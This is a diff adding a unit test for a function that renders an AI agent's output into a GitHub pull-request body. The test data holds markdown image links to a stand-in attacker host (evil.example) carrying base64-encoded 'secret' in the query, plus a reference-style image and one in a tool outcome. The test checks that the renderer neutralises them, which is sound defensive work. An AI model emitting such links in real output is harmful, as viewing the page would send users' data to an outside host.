@@ -73,6 +73,30 @@ describe('renderPrBody', () => {
     expect(body).toContain('echo \\| @&#8203;alice');
   });
 
+  it('shows images from the model as text (no URL fetched on view) and defuses GH- and URL references', () => {
+    const body = renderPrBody({
+      result: runResult({
+        finalMessage:
+          'Done ![x](https://evil.example/p.png?d=c2VjcmV0) and ![y][ref]\n\n[ref]: https://evil.example/q.png\nsee GH-12 and https://github.com/other/repo/issues/5 or /pull/6',
+        steps: [
+          {
+            step: 0,
+            tools: [{ name: 'Bash', args: 'ls', outcome: '![t](https://evil.example/t.png)' }],
+            modelMs: 1,
+            toolMs: 1,
+          },
+        ],
+      }),
+      issueNumber: 1,
+      triggeredBy: 'a',
+    });
+    expect(body).not.toMatch(/!\[[^\]]*\]\(https:\/\/evil/);
+    expect(body).not.toMatch(/!\[y\]\[ref\]/);
+    expect(body).toContain('!\\[x](https://evil.example/p.png?d=c2VjcmV0)');
+    expect(body).not.toMatch(/GH-12|issues\/5|pull\/6/);
+    expect(body).toContain('GH-&#8203;12');
+  });
+
   it('stays under 65,536 characters by shortening sections, keeping the essentials', () => {
     const hugeTail = 'E'.repeat(200_000);
     const manySteps = Array.from({ length: 150 }, (_, i) => ({
